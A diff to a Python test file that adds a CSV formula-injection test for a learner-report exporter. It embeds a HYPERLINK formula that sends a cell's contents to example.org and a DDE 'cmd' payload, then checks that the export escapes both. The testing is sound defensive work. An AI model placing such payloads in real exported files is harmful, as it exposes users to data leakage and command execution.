@@ -4,6 +4,7 @@ learner text that stays inert."""
 
 from __future__ import annotations
 
+import csv
 import re
 from pathlib import Path
 from datetime import datetime
@@ -148,3 +149,18 @@ def test_dashboard_notebook_shows_the_report(tmp_path, monkeypatch):
     NotebookClient(nb, kernel_name="python3", timeout=120).execute()
     html = nb.cells[1].outputs[0]["data"]["text/html"]
     assert "<h1>Cohort dashboard</h1>" in html and "Item statistics" in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_learner_text_cannot_run_as_a_spreadsheet_formula(tmp_path, start):
+    data = cohort()
+    formula = f"{start}HYPERLINK(\"http://example.org/?\"&A1,\"click\")"
+    data.responses.loc[data.responses["item"] == "s3", "comment"] = formula
+    data.learners.loc[data.learners["student"] == "ann", "first_name"] = f"{start}cmd|' /C calc'!A0"
+    write_report(build_report(data), tmp_path / "out")
+    for name in ("free_text.csv", "learners.csv"):
+        with (tmp_path / "out" / name).open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or
+                    (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit())], name
+        assert any(cell.startswith("'" + start) for cell in cells), name  # kept, as text
